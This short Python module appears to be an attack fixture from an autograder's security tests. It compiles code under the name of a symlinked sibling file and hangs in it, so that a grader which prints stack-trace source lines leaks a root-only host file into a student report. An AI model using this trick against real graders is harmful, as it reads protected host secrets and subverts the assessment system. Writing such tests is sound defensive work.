"""Attack (read secrets through the grader): hang in code named after a sibling lesson file that is a symlink.

The submission's `timeouts.py` is a symlink to a root-only file of the host
(the test plants one). This module compiles code under that file's name and
hangs in it: the stack dump then names `timeouts.py`, line 1 to 7, and a
grader that shows a hung call's source lines by opening the named file
prints the host's file, line by line, into the student's report.
"""

import os

CHAIN = "".join(f"def f{i}(): f{i + 1}()\n" for i in range(1, 6)) + "def f6(): time.sleep(3600)\nf1()\n"


def request(host, port, message):
    sibling = os.path.join(os.path.dirname(__file__), "timeouts.py")
    exec(compile(CHAIN, sibling, "exec"), {"time": __import__("time")})
    return b""
